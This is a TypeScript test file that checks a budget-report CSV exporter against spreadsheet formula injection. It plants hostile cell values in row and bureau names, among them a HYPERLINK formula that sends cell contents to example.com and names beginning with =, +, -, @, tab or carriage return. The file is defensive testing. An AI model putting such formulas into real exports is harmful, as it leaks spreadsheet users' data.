// Report text and bureau names that a spreadsheet would run as formulas: 醴陵 2022 with row names beginning with
// = + - @ and a bureau named with a leading tab or carriage return. Read back by Excel's rule (tests/support/csv.ts),
// every text cell of every CSV is text and reads as the name printed, and amount fields stay numbers, a negative one
// included.
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { tabularCsv } from '../../src/publish/export/csv.ts';
import { findingsTabular, headlineTabular, sangongTabular, type ReportRef } from '../../src/publish/export/portal-csv.ts';
import { tableTabular } from '../../src/publish/export/tables-csv.ts';
import type { Tabular } from '../../src/publish/export/tabular.ts';
import { parseReport } from '../../src/pipeline/parse-report.ts';
import { readCsv, sheetCell } from '../support/csv.ts';
import { loadSeeds } from './seeds.ts';

const liling = loadSeeds().find((s) => s.name.startsWith('001'))!;
const HOSTILE: [string, string][] = [
  ['行政运行', '=HYPERLINK("http://example.com/?"&A1,"行政运行")'],
  ['行政单位医疗', '+行政单位医疗'],
  ['其他公共卫生支出', '-其他公共卫生支出'],
  ['机关事业单位基本养老保险缴费支出', '@SUM(机关事业单位基本养老保险缴费支出)'],
];
// 05表's 行政单位医疗 row (seed line 256, 11.56 printed twice) made negative.
const text = HOSTILE.reduce((t, [name, bad]) => t.replaceAll(name, bad), readFileSync(liling.contentPath, 'utf8'))
  .replace('2101101\t+行政单位医疗\t11.56\t11.56\t\n', '2101101\t+行政单位医疗\t-3.50\t-3.50\t\n');
const report = parseReport(text, 'content/reports/liling-ybj/2022/部门决算.txt');
const refs = ['\t=1+1', '\r@A1', '-2+3'].map((name): ReportRef => ({ bureauId: 'liling-ybj', bureau: { name }, year: 2022, kind: '部门决算', url: '/reports/liling-ybj/2022/bumen-juesuan/', report }));

/** Every cell of the CSV as a spreadsheet takes it, with its field's type. */
function sheet(t: Tabular) {
  const [header, ...rows] = readCsv(tabularCsv(t).slice(1));
  expect(header.map((h) => sheetCell(h).kind)).not.toContain('formula');
  return rows.flatMap((r, i) => r.map((cell, j) => ({ cell, read: sheetCell(cell), type: t.fields[j].type, value: t.rows[i][j] })));
}

function expectSafe(t: Tabular): void {
  for (const { read, type, value } of sheet(t)) {
    expect(read.kind, value).not.toBe('formula');
    // Text reads as what was printed; a number field holds a number or nothing.
    if (type === 'string' && read.kind === 'text') expect(read.text).toBe(value);
    if (type === 'number') expect(read.kind === 'number' || value === '', value).toBe(true);
  }
}

describe('CSV cells a spreadsheet would run as formulas', () => {
  it('the hostile names reached the data', () => {
    const t05 = report.tables.find((t) => t.kind === 't05')!;
    const names = t05.rows.map((r) => r.cells[1]?.text);
    for (const [, bad] of HOSTILE.slice(0, 2)) expect(names).toContain(bad);
  });

  it('table CSVs: every text cell reads as text, every amount as a number', () => {
    for (const table of report.tables) expectSafe(tableTabular(table));
  });

  it('a negative amount in a number field stays the number printed', () => {
    const t05 = tableTabular(report.tables.find((t) => t.kind === 't05')!);
    const cells = sheet(t05).filter((c) => c.value === '-3.50');
    expect(cells.length).toBe(2);
    for (const c of cells) {
      expect(c.type).toBe('number');
      expect(c.cell).toBe('-3.50');
      expect(c.read).toEqual({ kind: 'number', value: -3.5 });
    }
  });

  it('findings.csv, the report\'s and the portal\'s: bureau names, rules and messages naming the rows read as text', () => {
    const all = findingsTabular(refs, () => report.findings, ['holds', 'mismatch', 'rounding', 'insufficient']);
    const values = sheet(all).map((c) => c.value);
    expect(values).toContain('\r@A1');
    expect(values.some((v) => v.includes('+行政单位医疗'))).toBe(true);
    expectSafe(all);
  });

  it('the portal CSVs: bureau names beginning with a tab, a carriage return or a sign read as text', () => {
    for (const t of [sangongTabular(refs), headlineTabular(refs)]) {
      expect(t.rows.map((r) => r[1])).toContain('\t=1+1');
      expectSafe(t);
    }
  });
});
